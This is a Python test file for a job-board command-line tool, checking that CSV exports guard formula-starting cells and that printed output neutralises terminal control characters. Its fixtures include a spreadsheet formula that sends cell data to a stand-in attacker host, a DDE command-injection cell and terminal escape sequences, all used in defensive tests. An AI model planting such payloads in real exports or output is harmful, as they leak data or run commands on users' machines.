"""Output that is safe where it lands: CSV cells a spreadsheet would run, long notes, and
text from the board printed to a terminal (issue 20)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pendulum
import pytest

from jobboard.core.model import Event, new_application
from jobboard.formats.export import guard_cell, to_csv, unguard_cell
from jobboard.formats.records import application_record
from jobboard.storage.store import BoardStore
from tests.helpers.cli import run_cli

DAY = pendulum.date(2026, 11, 2)
FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage",
    "'=already guarded by hand",
    "''-two quotes",
]


def records(path: Path) -> list[dict]:
    return [{**record, "id": None} for record in BoardStore(path).records()]


# -- CSV cells a spreadsheet would run ----------------------------------------------------------------


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "'quoted", "'", "", "=", "a=b", "email@x.example"])
def test_a_guarded_cell_comes_back_exactly(text):
    guarded = guard_cell(text)
    assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unguard_cell(guarded) == text


def test_csv_export_guards_every_cell_that_starts_a_formula():
    application = new_application(
        "1", FORMULAS[0], FORMULAS[1], notes=FORMULAS[2], offer_note=FORMULAS[3], source=FORMULAS[4], applied_on=DAY
    )
    rows = list(csv.reader(io.StringIO(to_csv([application]), newline="")))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["company"] == "'" + FORMULAS[0] and cells["role"] == "'" + FORMULAS[1]
    assert cells["notes"] == "'-2+3" and cells["offer_note"] == "'@SUM(A1:A9)" and cells["source"] == "'\tindented"
    assert all(cell[:1] not in "=+-@\t\r" or not cell for cell in rows[1])


def test_csv_export_and_import_give_back_exactly_the_same_applications(tmp_path):
    source, copy, csv_file = tmp_path / "board.json", tmp_path / "copy.json", tmp_path / "out.csv"
    store = BoardStore(source)
    store.add_many(
        [
            lambda i, text=text: new_application(
                i, text, text, notes=text, location=text, tags=[text], applied_on=DAY
            ).with_event(Event("follow_up", DAY, note=text))
            for text in FORMULAS
        ]
    )
    code, _, err = run_cli("--db", str(source), "export", "--format", "csv", "-o", str(csv_file))
    assert code == 0, err
    code, _, err = run_cli("--db", str(copy), "import", str(csv_file))
    assert code == 0, err
    assert records(copy) == records(source)


def test_a_note_of_a_megabyte_exports_and_imports_back(tmp_path):
    source, copy, csv_file = tmp_path / "board.json", tmp_path / "copy.json", tmp_path / "out.csv"
    note = ("A long note, line after line.\n" * 40_000)[: 1024 * 1024]
    BoardStore(source).add(lambda i: new_application(i, "Acme", "Dev", notes=note, applied_on=DAY))
    assert run_cli("--db", str(source), "export", "--format", "csv", "-o", str(csv_file))[0] == 0
    code, _, err = run_cli("--db", str(copy), "import", str(csv_file))
    assert code == 0, err
    assert BoardStore(copy).get("1").notes == note


# -- text from the board printed to a terminal ----------------------------------------------------------

TITLE = "\x1b]0;owned\x07"  # retitles the terminal window
CLEAR = "\x1b[2J\x1b[H"  # clears the screen
CSI8 = "\x9b31m"  # the one-byte form of ESC [
FLIP = "\u202e"  # right-to-left override
RAW = ("\x1b", "\x07", "\x9b", FLIP, "\r", "\x00")


@pytest.fixture
def hostile_board(tmp_path) -> Path:
    path = tmp_path / "board.json"
    BoardStore(path).add(
        lambda i: new_application(
            i,
            f"Acme{TITLE}",
            f"Dev{CLEAR}",
            notes=f"first line\nsecond{CSI8} line\r\nthird{FLIP}",
            contact=f"Dana{CLEAR}",
            tags=[f"re{TITLE}mote"],
            applied_on=pendulum.date(2026, 11, 2),
        ).with_event(Event("follow_up", pendulum.date(2026, 11, 9), note=f"sent{TITLE}"))
    )
    return path


@pytest.mark.parametrize("command", [("list",), ("show", "1"), ("next", "--all"), ("next", "--date", "2026-12-01")])
def test_printers_neutralise_control_characters(hostile_board, command):
    with pendulum.travel_to(pendulum.datetime(2026, 11, 16, 10), freeze=True):
        code, out, err = run_cli("--db", str(hostile_board), *command)
    assert code == 0, err
    assert not [char for char in RAW if char in out + err], repr(out)
    assert "Acme" in out


def test_show_keeps_the_notes_lines_and_every_word(hostile_board):
    code, out, _ = run_cli("--db", str(hostile_board), "show", "1")
    assert code == 0
    assert "first line\nsecond" in out and "line\nthird" in out
    assert "]0;owned" in out and "Dana" in out and "sent" in out  # visible, not run


def test_json_output_escapes_what_a_terminal_would_run_and_keeps_the_data(hostile_board):
    import json

    for command in (("list", "--json"), ("show", "1", "--json")):
        code, out, _ = run_cli("--db", str(hostile_board), *command)
        assert code == 0 and not [char for char in RAW if char in out]
        data = json.loads(out)
        record = data[0] if isinstance(data, list) else data
        if command[0] == "show":  # show adds the derived last contact (tests/cli/test_cli.py)
            assert isinstance(record.pop("last_contact"), str)
        assert record == application_record(BoardStore(hostile_board).get("1"))


def printed_on_a_terminal(*argv: str) -> str:
    """What ``jobboard ARGV`` prints with its standard output on a terminal (a raw pty, so
    the terminal adds nothing of its own)."""
    import os
    import pty
    import subprocess
    import sys
    import tty

    leader, follower = pty.openpty()
    tty.setraw(follower)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "jobboard", *argv], stdout=follower, stderr=subprocess.PIPE, timeout=60
        )
    finally:
        os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # Linux: the other end is closed and everything was read
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert done.returncode == 0, done.stderr
    return b"".join(chunks).decode("utf-8")


@pytest.mark.parametrize("fmt", ["csv", "ics", "markdown", "json"])
def test_every_export_printed_on_a_terminal_neutralises_control_characters(hostile_board, fmt):
    out = printed_on_a_terminal("--db", str(hostile_board), "export", "--format", fmt, "--date", "2026-11-16")
    assert not [char for char in RAW if char in out], repr(out)
    unfolded = out.replace("\n ", "").replace("\\;", ";")  # an ICS line folded, its ";" escaped
    assert "Acme" in out and "]0;owned" in unfolded  # visible, not run


def test_a_csv_export_piped_or_to_a_file_keeps_every_character(hostile_board, tmp_path):
    code, out, _ = run_cli("--db", str(hostile_board), "export", "--format", "csv")
    assert code == 0 and f"Acme{TITLE}" in out  # lossless: the import reads back the same card
    assert run_cli("--db", str(hostile_board), "export", "--format", "csv", "-o", str(tmp_path / "out.csv"))[0] == 0
    assert f"Acme{TITLE}" in (tmp_path / "out.csv").read_text(encoding="utf-8")


def test_import_dry_run_and_its_problems_neutralise_control_characters(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(f'Company,Role,Status\nAcme{TITLE},Dev{CLEAR},\n"Globex",Ops,"{CSI8}bogus"\n')
    code, out, err = run_cli("--db", str(tmp_path / "board.json"), "import", "--dry-run", str(source))
    assert code == 1 and "unknown status" in err and not [c for c in RAW if c in out + err]
    source.write_text(f"Company,Role\nAcme{TITLE},Dev{CLEAR}\n")
    code, out, err = run_cli("--db", str(tmp_path / "board.json"), "import", "--dry-run", str(source))
    assert code == 0 and "would add" in out and "Acme" in out and not [c for c in RAW if c in out + err]
